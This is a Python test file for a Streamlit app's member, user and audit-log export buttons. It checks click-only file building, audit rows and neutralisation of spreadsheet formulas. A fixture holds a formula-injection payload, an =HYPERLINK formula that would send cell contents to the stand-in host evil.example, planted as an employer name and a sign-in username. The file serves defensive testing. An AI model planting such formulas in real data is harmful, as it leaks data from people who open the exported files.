"""Export buttons on the list pages, through app.py as an administrator.

Finding 7: a file is built, and audited, only when its button is clicked, never on a page
run, and the tables' own toolbar offers no download or copy. Finding 1 at the page: what
a person typed reaches the downloaded file as inert text.

A deferred download button (``data`` is a callable) has no file until the browser asks
for it; the server then runs ``MediaFileManager.execute_deferred``. AppTest builds a new
manager for every run and forgets it afterwards, so ``RecordingMediaFileManager`` keeps
the latest one, and ``download`` does what the server does on a click.
"""

import csv
import io
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
import streamlit.testing.v1.app_test as app_test_module
from sqlmodel import select
from streamlit import config
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from streamlit.runtime import app_session
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from core.db import get_engine, read_session, write_session
from models import AuditAction, AuditEntry
from services.actors import Actor, Role
from services.audit import parse_audit_detail, record_audit
from tests.helpers import factories
from tests.helpers.app_test import TODAY

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
PAGES = {"pages/members.py": "Member", "pages/users.py": "User", "pages/audit.py": "AuditEntry"}


class RecordingMediaFileManager(MediaFileManager):
    latest: "RecordingMediaFileManager | None" = None

    def __init__(self, storage) -> None:
        super().__init__(storage)
        self.storage = storage
        RecordingMediaFileManager.latest = self


@pytest.fixture(autouse=True)
def media_files(monkeypatch):
    monkeypatch.setattr(app_test_module, "MediaFileManager", RecordingMediaFileManager)


@pytest.fixture
def files_built(monkeypatch) -> list[str]:
    """The formats of the export files built, in order (a spy on the one builder)."""
    import services.exports

    built: list[str] = []
    build = services.exports.table_file

    def spy(table, labels, words, file_format):
        built.append(file_format.value)
        return build(table, labels, words, file_format)

    monkeypatch.setattr(services.exports, "table_file", spy)
    return built


@pytest.fixture
def hostile_store(app_env) -> tuple:
    """A member whose employer is a formula, and a sign-in tried with a formula as the
    username: both are text a person typed that ends up in a list. Returns the sector,
    committee and term."""
    with write_session(get_engine(app_env)) as session:
        org = factories.organisation(session)
        member = factories.member(session, org, name="刘洋")
        member.employer = HYPERLINK
        member.phone = "+86 138 0013 8000"
        tried = record_audit(session=session, actor=Actor(user_id=None, name=HYPERLINK,
                                                          role=Role.STAFF),
                             action=AuditAction.SIGN_IN_FAILED, entity="User")
        tried.occurred_at = datetime.fromisoformat(f"{TODAY}T08:00:00+00:00")  # in the filter
    return org


def _download_buttons(app: AppTest) -> dict[str, object]:
    return {button.proto.label: button.proto for button in app.get("download_button")}


def download(app: AppTest, label: str) -> bytes:
    """What the server does when the browser clicks the deferred download button."""
    manager = RecordingMediaFileManager.latest
    url = manager.execute_deferred(_download_buttons(app)[label].deferred_file_id)
    return manager.storage.get_file(url.rsplit("/", 1)[-1]).content


def _exports(app_env: str) -> list[AuditEntry]:
    with read_session(get_engine(app_env)) as session:
        return list(session.exec(
            select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORT)
            .order_by(AuditEntry.id)
        ).all())


@pytest.mark.usefixtures("hostile_store")
@pytest.mark.parametrize("page", PAGES)
def test_page_runs_build_no_export_file_and_write_no_audit_row(admin_app, app_env,
                                                               files_built, page):
    app = admin_app
    for _ in range(3):
        app.switch_page(page).run()
        assert not app.exception
    buttons = _download_buttons(app)
    assert list(buttons) == ["导出 Excel", "导出 CSV"]
    for button in buttons.values():
        assert button.deferred_file_id and not button.url  # no file until a click
    assert files_built == []
    assert _exports(app_env) == []


@pytest.mark.usefixtures("hostile_store")
@pytest.mark.parametrize("page", PAGES)
def test_each_export_writes_exactly_one_audit_row(admin_app, app_env, files_built, page):
    app = admin_app
    app.switch_page(page).run()
    download(app, "导出 Excel")
    assert files_built == ["xlsx"]
    assert [(e.entity, e.actor_name) for e in _exports(app_env)] == [(PAGES[page], "admin")]
    download(app, "导出 CSV")
    app.run()
    app.run()
    entries = _exports(app_env)
    assert files_built == ["xlsx", "csv"]
    assert [parse_audit_detail(e.detail)[1]["format"] for e in entries] == ["xlsx", "csv"]


def test_the_member_export_counts_its_rows(admin_app, app_env, hostile_store):
    with write_session(get_engine(app_env)) as session:
        factories.member(session, hostile_store, name="王芳")
    app = admin_app
    app.switch_page("pages/members.py").run()
    download(app, "导出 CSV")
    (entry,) = _exports(app_env)
    assert parse_audit_detail(entry.detail) == ("audit.detail.export",
                                                {"format": "csv", "rows": 2})


@pytest.mark.usefixtures("hostile_store")
def test_a_formula_typed_as_an_employer_is_inert_text_in_the_downloaded_files(admin_app):
    app = admin_app
    app.switch_page("pages/members.py").run()
    sheet = openpyxl.load_workbook(io.BytesIO(download(app, "导出 Excel"))).active
    rows = [list(row) for row in sheet.iter_rows()]
    employer = [row[4] for row in rows]
    assert employer[0].value == "工作单位"
    assert [(c.value, c.data_type, c.quotePrefix) for c in employer[1:]] == [
        (HYPERLINK, "s", True)]
    assert [c.coordinate for row in rows for c in row if c.data_type == "f"] == []
    table = list(csv.DictReader(io.StringIO(download(app, "导出 CSV").decode("utf-8-sig"))))
    assert [(r["工作单位"], r["联系电话"]) for r in table] == [
        (f"'{HYPERLINK}", "'+86 138 0013 8000")]


@pytest.mark.usefixtures("hostile_store")
def test_a_formula_typed_as_a_username_is_inert_text_in_the_audit_export(admin_app):
    app = admin_app
    app.switch_page("pages/audit.py").run()
    sheet = openpyxl.load_workbook(io.BytesIO(download(app, "导出 Excel"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    (typed,) = [c for c in cells if c.value == HYPERLINK]
    assert (typed.data_type, typed.quotePrefix) == ("s", True)


def test_the_dataframe_toolbar_offers_no_download_or_copy(monkeypatch):
    """What the server tells every new browser session, read from our config.toml."""
    monkeypatch.chdir(ROOT)
    config.get_config_options(force_reparse=True)
    new_session = ForwardMsg().new_session
    app_session._populate_config_msg(new_session.config)
    assert new_session.config.disable_data_export is True
